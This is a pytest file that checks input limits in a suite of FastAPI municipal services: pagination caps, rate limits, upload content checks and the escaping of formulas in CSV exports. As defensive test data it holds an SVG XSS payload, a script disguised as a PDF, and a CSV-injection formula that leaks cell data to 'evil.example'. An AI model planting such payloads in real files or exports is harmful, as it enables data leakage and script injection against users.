"""Input limits of every service (issue 9 §4): pagination caps on every list endpoint, rate limits on the public intake
endpoints, upload type and size checks, and CSV exports safe from formula injection."""

from __future__ import annotations

import base64
import csv
import io
import re
import uuid
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from jiading_shared.auth import mint_token
from jiading_shared.errors import PROBLEM_JSON
from jiading_shared.pagination import MAX_LIMIT, MAX_OFFSET
from jiading_shared.ratelimit import TokenBucketLimiter
from jiading_shared.suite import SERVICES, SuiteService
from jiading_shared.testing.services import embedded_settings

HARD_MAX = 1000  # the suite's ceiling for any list window (the shared default maximum is MAX_LIMIT)


class FakeClock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def admin_header(settings: Any, sub: str = "admin-1") -> dict[str, str]:
    return {"Authorization": f"Bearer {mint_token(settings, sub=sub, roles=['admin'])}"}


def assert_problem_names(response: Any, status: int, field: str) -> None:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith(PROBLEM_JSON)
    assert field in {error["field"] for error in response.json().get("errors", [])}, response.text


# --- pagination: the OpenAPI of every service ----------------------------------------------------------------------


def list_operations(spec: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    """(path, operation) of every GET whose 200 response is a JSON array."""
    found = []
    for path, operations in spec["paths"].items():
        operation = operations.get("get")
        if operation is None:
            continue
        content = operation.get("responses", {}).get("200", {}).get("content", {})
        if any(media.get("schema", {}).get("type") == "array" for media in content.values()):
            found.append((path, operation))
    return found


def query_parameter(operation: dict[str, Any], name: str) -> dict[str, Any] | None:
    return next((p for p in operation.get("parameters", []) if p["in"] == "query" and p["name"] == name), None)


@pytest.fixture(params=SERVICES, ids=lambda service: service.name)
def service_app(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[SuiteService, Any, Any]:
    service: SuiteService = request.param
    settings = embedded_settings(service.settings_class(), tmp_path)
    return service, settings, service.build_app(settings)


def test_every_list_declares_a_capped_limit_and_offset(service_app: tuple[SuiteService, Any, Any]) -> None:
    service, _settings, app = service_app
    operations = list_operations(app.openapi())
    assert len(operations) >= 5, f"{service.name}: the walk found only {len(operations)} list operations"
    missing = []
    for path, operation in operations:
        limit, offset = query_parameter(operation, "limit"), query_parameter(operation, "offset")
        if limit is None or offset is None:
            missing.append(f"{path}: no limit/offset")
            continue
        schema = limit["schema"]
        if not (1 <= schema.get("default", 0) <= schema.get("maximum", HARD_MAX + 1) <= HARD_MAX):
            missing.append(f"{path}: limit {schema}")
        if schema.get("minimum") != 1 or offset["schema"].get("maximum") != MAX_OFFSET:
            missing.append(f"{path}: bounds {schema} / {offset['schema']}")
        if "rel=" not in limit.get("description", ""):
            missing.append(f"{path}: the limit does not document the next link")
    assert not missing, "\n".join(missing)


# A parent record some list dependencies load before the query is validated (404 otherwise): created per service.
def _library_parents(client: TestClient, settings: Any) -> dict[str, str]:
    facility = {"tier": "district_library", "name": "嘉定区图书馆", "town": "jd-xincheng", "population_served": 1}
    response = client.post("/api/v1/facilities", json=facility, headers=admin_header(settings))
    assert response.status_code == 201, response.text
    return {"facility_id": response.json()["id"]}


PARENTS = {"library-metrics": _library_parents}


def concrete(path: str, operation: dict[str, Any], spec: dict[str, Any], parents: dict[str, str]) -> str:
    for parameter in operation.get("parameters", []):
        if parameter["in"] != "path":
            continue
        name, schema = parameter["name"], parameter["schema"]
        ref = schema.get("$ref") or next((part.get("$ref") for part in schema.get("allOf", [])), None)
        if name in parents:
            value = parents[name]
        elif ref:
            value = spec["components"]["schemas"][ref.rsplit("/", 1)[-1]]["enum"][0]
        elif "enum" in schema:
            value = schema["enum"][0]
        elif schema.get("format") == "uuid":
            value = str(uuid.uuid4())
        else:
            value = "x"
        path = path.replace("{" + name + "}", str(value))
    return path


def test_a_limit_over_the_maximum_is_a_422_naming_limit(service_app: tuple[SuiteService, Any, Any]) -> None:
    service, settings, app = service_app
    with TestClient(app) as client:
        parents = PARENTS[service.name](client, settings) if service.name in PARENTS else {}
        spec = app.openapi()
        checked = 0
        for path, operation in list_operations(spec):
            url = concrete(path, operation, spec, parents)
            limit = query_parameter(operation, "limit")
            assert limit is not None
            too_many = client.get(url, params={"limit": limit["schema"]["maximum"] + 1}, headers=admin_header(settings))
            assert_problem_names(too_many, 422, "query.limit")
            deep = client.get(url, params={"offset": MAX_OFFSET + 1}, headers=admin_header(settings))
            assert_problem_names(deep, 422, "query.offset")
            checked += 1
    assert checked >= 5


# --- pagination: real lists with more rows than the window -------------------------------------------------------


def pages(client: TestClient, url: str, headers: dict[str, str], limit: int) -> list[list[dict[str, Any]]]:
    """Every page of a list, following the next links; asserts each full page has exactly `limit` rows."""
    result: list[list[dict[str, Any]]] = []
    next_url: str | None = url
    params: dict[str, Any] | None = {"limit": limit}
    while next_url is not None:
        response = client.get(next_url, params=params, headers=headers)
        assert response.status_code == 200, response.text
        rows = response.json()
        assert isinstance(rows, list)
        link = response.headers.get("link")
        if link is not None:
            assert len(rows) == limit
            match = re.fullmatch(r'<(.+)>; rel="next"', link)
            assert match, link
            next_url, params = match.group(1), None
        else:
            next_url = None
        result.append(rows)
        assert len(result) < 50
    return result


def pg_settings(service: str, postgres_url: str, tmp_path: Path) -> Any:
    suite_service = next(item for item in SERVICES if item.name == service)
    settings = embedded_settings(suite_service.settings_class(), tmp_path)
    return settings.model_copy(update={"database_url": postgres_url, "blob_dir": str(tmp_path / "blobs")})


def pg_client(service: str, postgres_url: str, tmp_path: Path) -> tuple[Any, TestClient]:
    settings = pg_settings(service, postgres_url, tmp_path)
    app = next(item for item in SERVICES if item.name == service).build_app(settings)
    return settings, TestClient(app)


def test_towns_list_pages_in_memory_on_postgres(postgres_url: str, tmp_path: Path) -> None:
    settings, client = pg_client("collection", postgres_url, tmp_path)
    with client:
        for index in range(5):
            body = {"code": f"jd-town-{index}", "name": f"镇{index}"}
            assert client.post("/api/v1/towns", json=body, headers=admin_header(settings)).status_code == 201
        seen = pages(client, "/api/v1/towns", admin_header(settings), limit=2)
        whole = client.get("/api/v1/towns", headers=admin_header(settings))

    assert [len(page) for page in seen] == [2, 2, 1]
    assert [town["code"] for page in seen for town in page] == [town["code"] for town in whole.json()]
    assert len({town["code"] for page in seen for town in page}) == 5
    assert "link" not in whole.headers


def test_facilities_list_pages_in_sql_on_postgres(postgres_url: str, tmp_path: Path) -> None:
    settings, client = pg_client("library-metrics", postgres_url, tmp_path)
    with client:
        for index in range(7):
            body = {"tier": "home_study", "name": f"我嘉书房{index:02d}", "town": "jd-anting"}
            response = client.post("/api/v1/facilities", json=body, headers=admin_header(settings))
            assert response.status_code == 201, response.text
        seen = pages(client, "/api/v1/facilities", admin_header(settings), limit=3)
        exact = client.get("/api/v1/facilities", params={"limit": 7}, headers=admin_header(settings))
        past_the_end = client.get("/api/v1/facilities", params={"offset": MAX_OFFSET}, headers=admin_header(settings))

    names = [facility["name"] for page in seen for facility in page]
    assert [len(page) for page in seen] == [3, 3, 1]
    assert names == sorted(names)
    assert len(set(names)) == 7
    assert len(exact.json()) == 7
    assert "link" not in exact.headers
    assert past_the_end.status_code == 200
    assert past_the_end.json() == []


def test_stricter_window_of_a_route_is_kept(tmp_path: Path) -> None:
    assist = next(item for item in SERVICES if item.name == "assist-desk")
    spec = assist.build_app(embedded_settings(assist.settings_class(), tmp_path)).openapi()
    limit = query_parameter(spec["paths"]["/api/v1/tickets"]["get"], "limit")
    assert limit is not None
    assert limit["schema"]["maximum"] == 200
    assert limit["schema"]["default"] == 50
    grid = next(item for item in SERVICES if item.name == "grid-dispatch")
    spec = grid.build_app(embedded_settings(grid.settings_class(), tmp_path)).openapi()
    limit = query_parameter(spec["paths"]["/api/v1/incidents"]["get"], "limit")
    assert limit is not None
    assert limit["schema"]["maximum"] == MAX_LIMIT


# --- rate limiting ---------------------------------------------------------------------------------------------------


def test_token_bucket_burst_refill_and_clients_apart() -> None:
    clock = FakeClock()
    limiter = TokenBucketLimiter(per_minute=30, burst=3, clock=clock)

    burst = [limiter.take("a") for _ in range(3)]
    refused = limiter.take("a")
    other = limiter.take("b")
    clock.now += 1.0  # half a token at 0.5/s
    still_refused = limiter.take("a")
    clock.now += 1.0
    refilled = limiter.take("a")
    clock.now += 3600
    after_idle = [limiter.take("a") for _ in range(4)]

    assert burst == [0.0, 0.0, 0.0]
    assert refused == pytest.approx(2.0)  # one token at 30/min
    assert other == 0.0
    assert still_refused == pytest.approx(1.0)
    assert refilled == 0.0
    assert after_idle[:3] == [0.0, 0.0, 0.0]
    assert after_idle[3] > 0


def test_token_bucket_forgets_idle_clients_first() -> None:
    clock = FakeClock()
    limiter = TokenBucketLimiter(per_minute=60, burst=2, clock=clock, max_keys=4)
    limiter.take("busy")
    limiter.take("busy")
    for key in ("idle-1", "idle-2", "idle-3"):
        limiter.take(key)
    clock.now += 1.5  # the idle ones (one token spent) are full again; "busy" has 1.5 of 2
    limiter.take("new")

    assert len(limiter._buckets) <= 4
    assert "busy" in limiter._buckets
    assert "new" in limiter._buckets
    assert limiter.take("busy") == 0.0
    assert limiter.take("busy") > 0


def limited_client(service: str, tmp_path: Path, clock: FakeClock, **limits: Any) -> tuple[Any, TestClient]:
    suite_service = next(item for item in SERVICES if item.name == service)
    settings = embedded_settings(suite_service.settings_class(), tmp_path).model_copy(update=limits)
    app = suite_service.build_app(settings)
    app.state.rate_limit_clock = clock
    return settings, TestClient(app)


def assert_rate_limited(response: Any, retry_after: int) -> None:
    assert response.status_code == 429, response.text
    assert response.headers["content-type"].startswith(PROBLEM_JSON)
    assert response.json()["type"].endswith("/too-many-requests")
    assert response.headers["retry-after"] == str(retry_after)


OPEN311_FORM = {
    "api_key": "dev-open311-key",
    "service_code": "water_pollution",
    "lat": "31.38",
    "long": "121.16",
    "description": "河道漂浮垃圾",
    "attribute[grid]": "AT-02-01",
}


def test_open311_post_is_rate_limited_per_client(tmp_path: Path) -> None:
    clock = FakeClock()
    settings, client = limited_client(
        "grid-dispatch", tmp_path, clock, intake_rate_limit_per_minute=6, intake_rate_limit_burst=3
    )

    def post(sub: str) -> Any:
        token = mint_token(settings, sub=sub, roles=["external_system"], town="jd-anting")
        return client.post("/open311/v2/requests.json", data=OPEN311_FORM, headers={"Authorization": f"Bearer {token}"})

    with client:
        burst = [post("hotline-12345") for _ in range(3)]
        limited = post("hotline-12345")
        other_client = post("hotline-96068")
        clock.now += 9  # 0.9 of a token at 6/min
        still_limited = post("hotline-12345")
        clock.now += 1
        refilled = post("hotline-12345")
        spec = client.app.openapi()

    assert all(response.status_code != 429 for response in burst), [r.status_code for r in burst]
    assert_rate_limited(limited, retry_after=10)
    assert other_client.status_code != 429
    assert_rate_limited(still_limited, retry_after=1)
    assert refilled.status_code != 429
    assert "429" in spec["paths"]["/open311/v2/requests.json"]["post"]["responses"]


def test_open311_default_limits_allow_a_burst_of_ten(tmp_path: Path) -> None:
    clock = FakeClock()
    settings, client = limited_client("grid-dispatch", tmp_path, clock)
    token = mint_token(settings, sub="hotline-12345", roles=["external_system"], town="jd-anting")
    with client:
        statuses = [
            client.post(
                "/open311/v2/requests.json", data=OPEN311_FORM, headers={"Authorization": f"Bearer {token}"}
            ).status_code
            for _ in range(11)
        ]
    assert settings.intake_rate_limit_burst == 10
    assert settings.intake_rate_limit_per_minute == 30
    assert 429 not in statuses[:10]
    assert statuses[10] == 429


def test_self_declarations_are_rate_limited_per_channel(tmp_path: Path) -> None:
    from collection.testing import auth, form, register_building, setup_places

    clock = FakeClock()
    settings, client = limited_client(
        "collection", tmp_path, clock, intake_rate_limit_per_minute=2, intake_rate_limit_burst=2
    )

    def declaration(index: int) -> dict[str, Any]:
        return {
            "app": "wechat",
            "external_reference": f"SSB-2025-{index:06d}",
            "face_verified": True,
            "face_verified_at": "2025-11-20T09:30:00+08:00",
            "form": form(filled_by="本人"),
            "materials": [],
        }

    def submit(sub: str, index: int) -> Any:
        headers = auth(settings, "external_system", sub=sub, town=None)
        return client.post("/api/v1/self-declarations", json=declaration(index), headers=headers)

    with client:
        setup_places(client, settings)
        register_building(client, settings, "31011401")
        first, second = submit("suishenban", 1), submit("suishenban", 2)
        limited = submit("suishenban", 3)
        other_channel = submit("yiwangtongban", 4)
        clock.now += 30  # one token at 2/min
        refilled = submit("suishenban", 5)

    assert first.status_code == 201, first.text
    assert second.status_code == 201, second.text
    assert_rate_limited(limited, retry_after=30)
    assert other_channel.status_code == 201, other_channel.text
    assert refilled.status_code == 201, refilled.text


# --- uploads: type by content, size -------------------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
# A spreadsheet sent as CSV (no NUL byte: the NUL guard of every service would refuse it before the route).
XLSX = b"PK\x03\x04\x14\x06" + bytes(range(0x80, 0x100))


def assert_refused_as_not_text(*responses: Any) -> None:
    """415 from the route's sniffing, or 422 from the NUL guard when a file holding NUL bytes is declared text/*."""
    for response in responses:
        assert response.status_code in (415, 422), response.text
        assert_problem_names(response, response.status_code, "body")


def oversize_png(max_bytes: int) -> bytes:
    return PNG + b"\x00" * (max_bytes + 1 - len(PNG))


def test_sketch_upload_checks_content_not_declared_type(tmp_path: Path) -> None:
    from collection.places.service import SKETCH_MAX_BYTES
    from collection.testing import collector, register_building, setup_places

    suite_service = next(item for item in SERVICES if item.name == "collection")
    settings = embedded_settings(suite_service.settings_class(), tmp_path)
    with TestClient(suite_service.build_app(settings)) as client:
        setup_places(client, settings)
        building = register_building(client, settings, "31011401")
        url = f"/api/v1/buildings/{building['id']}/sketch"

        def put(data: bytes, content_type: str) -> Any:
            return client.put(url, content=data, headers={**collector(settings), "Content-Type": content_type})

        disguised = put(SVG, "image/png")
        gif = put(b"GIF89a" + b"\x00" * 32, "image/jpeg")
        too_big = put(oversize_png(SKETCH_MAX_BYTES), "image/png")
        good = put(PNG, "application/octet-stream")  # the declared type is not trusted either way

    assert_problem_names(disguised, 415, "body")
    assert_problem_names(gif, 415, "body")
    assert_problem_names(too_big, 413, "body")
    assert good.status_code == 200, good.text


def test_declaration_material_checks_content_and_size(tmp_path: Path) -> None:
    from collection.declarations.models import MAX_MATERIAL_BYTES
    from collection.testing import auth, form, register_building, setup_places

    suite_service = next(item for item in SERVICES if item.name == "collection")
    settings = embedded_settings(suite_service.settings_class(), tmp_path)

    def declaration(reference: str, content: bytes) -> dict[str, Any]:
        return {
            "app": "wechat",
            "external_reference": reference,
            "face_verified": True,
            "face_verified_at": "2025-11-20T09:30:00+08:00",
            "form": form(filled_by="本人"),
            "materials": [{"name": "租赁合同", "content_base64": base64.b64encode(content).decode()}],
        }

    with TestClient(suite_service.build_app(settings)) as client:
        setup_places(client, settings)
        register_building(client, settings, "31011401")
        headers = auth(settings, "external_system", sub="suishenban", town=None)
        wrong = client.post("/api/v1/self-declarations", json=declaration("SSB-1", SVG), headers=headers)
        big = client.post(
            "/api/v1/self-declarations", json=declaration("SSB-2", oversize_png(MAX_MATERIAL_BYTES)), headers=headers
        )
        listed = client.get("/api/v1/self-declarations", headers=headers)

    assert_problem_names(wrong, 415, "body.materials.0.content_base64")
    assert_problem_names(big, 413, "body.materials.0.content_base64")
    assert listed.json() == []  # nothing half-written


def test_key_house_list_refuses_binary_files_sent_as_csv(tmp_path: Path) -> None:
    from collection.key_houses.views import MAX_LIST_BYTES
    from collection.testing import police, setup_places

    suite_service = next(item for item in SERVICES if item.name == "collection")
    settings = embedded_settings(suite_service.settings_class(), tmp_path)
    with TestClient(suite_service.build_app(settings)) as client:
        setup_places(client, settings)

        def upload(data: bytes, content_type: str = "text/csv") -> Any:
            headers = {**police(settings), "Content-Type": content_type}
            return client.post("/api/v1/key-house-lists", content=data, headers=headers)

        image = upload(PNG)
        undeclared_image = upload(PNG, "application/octet-stream")
        spreadsheet = upload(XLSX)
        nul_bytes = upload(b"house_code,house_type\x00\n31011401,\x00\x00\n")
        too_big = upload(b"house_code,house_type,maintenance_requirement\n" + b"x" * MAX_LIST_BYTES)
        empty = upload(b"  \n")

    assert_refused_as_not_text(image, nul_bytes)
    assert_problem_names(spreadsheet, 415, "body")
    assert_problem_names(undeclared_image, 415, "body")
    assert_problem_names(too_big, 413, "body")
    assert_problem_names(empty, 422, "body")


def test_library_record_import_refuses_binary_files_sent_as_csv(tmp_path: Path) -> None:
    from library_metrics.records.views import MAX_CSV_BYTES

    suite_service = next(item for item in SERVICES if item.name == "library-metrics")
    settings = embedded_settings(suite_service.settings_class(), tmp_path)
    with TestClient(suite_service.build_app(settings)) as client:
        facility_id = _library_parents(client, settings)["facility_id"]
        url = f"/api/v1/facilities/{facility_id}/events/import"

        def upload(data: bytes, content_type: str = "text/csv") -> Any:
            return client.post(url, content=data, headers={**admin_header(settings), "Content-Type": content_type})

        image, spreadsheet = upload(PNG), upload(XLSX)
        undeclared_image = upload(PNG, "application/octet-stream")
        utf16 = upload("date,title\n2025-03-01,读书会\n".encode("utf-16"))
        too_big = upload(b"date,title\n" + b"x" * MAX_CSV_BYTES)

    assert_refused_as_not_text(image, utf16)
    assert_problem_names(spreadsheet, 415, "body")
    assert_problem_names(undeclared_image, 415, "body")
    assert_problem_names(too_big, 413, "body")


def test_provider_document_checks_content_and_size(tmp_path: Path) -> None:
    from evaluation.providers.service import DOCUMENT_MAX_BYTES

    suite_service = next(item for item in SERVICES if item.name == "evaluation")
    settings = embedded_settings(suite_service.settings_class(), tmp_path).model_copy(
        update={"blob_dir": str(tmp_path / "blobs")}
    )
    provider = {
        "name": "嘉定区阳光助残服务社",
        "unified_social_credit_code": "91310114MA1GT12348",
        "contact_name": "王老师",
        "contact_phone": "13812345678",
    }
    with TestClient(suite_service.build_app(settings)) as client:
        created = client.post("/api/v1/providers", json=provider, headers=admin_header(settings))
        assert created.status_code == 201, created.text
        url = f"/api/v1/providers/{created.json()['id']}/documents"
        params = {"kind": "other", "title": "资质"}

        def upload(data: bytes, content_type: str) -> Any:
            headers = {**admin_header(settings), "Content-Type": content_type}
            return client.post(url, params=params, content=data, headers=headers)

        disguised = upload(b"<html><script>alert(1)</script></html>", "application/pdf")
        too_big = upload(oversize_png(DOCUMENT_MAX_BYTES), "image/png")
        good = upload(b"%PDF-1.4\n" + b"x" * 64, "application/pdf")

    assert_problem_names(disguised, 415, "body")
    assert_problem_names(too_big, 413, "body")
    assert good.status_code == 201, good.text


# --- CSV exports: formula injection ----------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ASSESSOR_KIND = "expert"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_routes(app: Any) -> set[str]:
    """Paths of the GET routes that answer CSV: declared text/csv, a `.csv` path or a `format` that offers csv."""
    found = set()
    for path, operations in app.openapi()["paths"].items():
        operation = operations.get("get")
        if operation is None:
            continue
        content = operation.get("responses", {}).get("200", {}).get("content", {})
        format_parameter = query_parameter(operation, "format") or {}
        offers_csv = "csv" in str(format_parameter.get("schema", {}))
        if "text/csv" in content or path.endswith(".csv") or offers_csv:
            found.add(path)
    return found


def _library_csv(client: TestClient, settings: Any, path: str) -> tuple[str, dict[str, Any]]:
    facility = {"tier": "home_study", "name": FORMULA, "town": "jd-anting"}
    response = client.post("/api/v1/facilities", json=facility, headers=admin_header(settings))
    assert response.status_code == 201, response.text
    return path.replace("{town}", "jd-anting"), {"year": 2025}


def _assist_csv(client: TestClient, settings: Any, path: str) -> tuple[str, dict[str, Any]]:
    from assist_desk.testing import Desk

    Desk(client, settings).institution(name=FORMULA)
    return path, {"from": "2025-01-01", "to": "2025-12-31"}


def _evaluation_csv(client: TestClient, settings: Any, path: str) -> tuple[str, dict[str, Any]]:
    """No API writes text into a result's CSV (factor names come from the shipped scoring model), so the published
    result is written straight into the table: the shipped model with one factor renamed, scored, for a real round."""
    from datetime import UTC, datetime

    from sqlalchemy import create_engine
    from sqlmodel import Session

    from evaluation.rounds.models import RoundResult, RoundResultDocument
    from evaluation.scoring.models import ScoringModel
    from evaluation.scoring.rules import ScoreInputs, score

    headers = admin_header(settings)
    provider = {
        "name": "嘉定区阳光助残服务社",
        "unified_social_credit_code": "91310114MA1GT12348",
        "contact_name": "王老师",
        "contact_phone": "13812345678",
    }
    provider_id = client.post("/api/v1/providers", json=provider, headers=headers).json()["id"]
    project = {
        "provider_id": provider_id,
        "name": "阳光康复助残项目",
        "service_year": 2025,
        "start_date": "2025-01-01",
        "end_date": "2025-12-31",
        "target_disability_types": ["physical"],
        "budget_planned": "1000000.00",
        "satisfied_planned": 200,
        "staffing_plan": [{"role": "社工", "count": 4}],
        "schedule": [{"task": "需求调研", "start": "2025-01-01", "end": "2025-02-28"}],
        "planned_activities": [
            {"name": "康复训练", "planned_persons": 300, "planned_frequency": 24, "disability_types": ["physical"]}
        ],
        "quality_targets": ["康复能力提升"],
    }
    created = client.post("/api/v1/projects", json=project, headers=headers)
    assert created.status_code == 201, created.text
    panel = [{"assessor_sub": "assessor-1", "name": "评审一", "kind": ASSESSOR_KIND}]
    evaluation_round = client.post(
        f"/api/v1/projects/{created.json()['id']}/rounds", json={"name": "终期评估", "panel": panel}, headers=headers
    )
    assert evaluation_round.status_code == 201, evaluation_round.text
    round_id = evaluation_round.json()["id"]
    model = client.get("/api/v1/scoring-models/current", headers=headers)
    shipped = ScoringModel.model_validate(model.json())
    group = shipped.groups[0]
    renamed = group.factors[0].model_copy(update={"name": FORMULA})
    evil_model = shipped.model_copy(
        update={"groups": [group.model_copy(update={"factors": [renamed, *group.factors[1:]]}), *shipped.groups[1:]]}
    )
    result = score(evil_model, ScoreInputs(measures={}, points={}, vetoes=set()))
    document = RoundResultDocument(
        round_id=round_id,
        project_id=created.json()["id"],
        provider_id=provider_id,
        version=1,
        reason=None,
        aggregation="mean",
        published_by="federation-1",
        published_at=datetime.now(UTC),
        score=result,
        measure_inputs={},
        sheets={},
        disagreements=[],
        veto_findings_in_minority=[],
        vetoes_from_records=[],
        self_evaluation=None,
    )
    engine = create_engine(settings.database_url)
    with Session(engine) as session:
        session.add(
            RoundResult(
                round_id=uuid.UUID(round_id),
                version=1,
                total=result.total,
                scoring_model_id=shipped.id,
                document=document.model_dump(mode="json"),
                published_by="federation-1",
                published_at=datetime.now(UTC),
            )
        )
        session.commit()
    engine.dispose()
    return path.replace("{round_id}", round_id).replace("{version}", "1"), {"format": "csv"}


CSV_SEEDERS = {
    ("library-metrics", "/api/v1/reports/district/export.csv"): _library_csv,
    ("library-metrics", "/api/v1/reports/towns/{town}/export.csv"): _library_csv,
    ("assist-desk", "/api/v1/reports/district-summary.csv"): _assist_csv,
    ("evaluation", "/api/v1/rounds/{round_id}/results/{version}/export"): _evaluation_csv,
}


def test_every_csv_export_has_a_seeder(service_app: tuple[SuiteService, Any, Any]) -> None:
    service, _settings, app = service_app
    expected = {path for name, path in CSV_SEEDERS if name == service.name}
    assert csv_routes(app) == expected


@pytest.mark.parametrize(("service_name", "path"), sorted(CSV_SEEDERS), ids=lambda value: str(value))
def test_csv_export_neutralises_formulas(service_name: str, path: str, tmp_path: Path) -> None:
    suite_service = next(item for item in SERVICES if item.name == service_name)
    settings = embedded_settings(suite_service.settings_class(), tmp_path).model_copy(
        update={"blob_dir": str(tmp_path / "blobs")}
    )
    with TestClient(suite_service.build_app(settings)) as client:
        url, params = CSV_SEEDERS[(service_name, path)](client, settings, path)
        response = client.get(url, params=params, headers=admin_header(settings))

    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    cells = [cell for row in csv.reader(io.StringIO(response.text.lstrip("\ufeff"))) for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
    assert dangerous == []


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
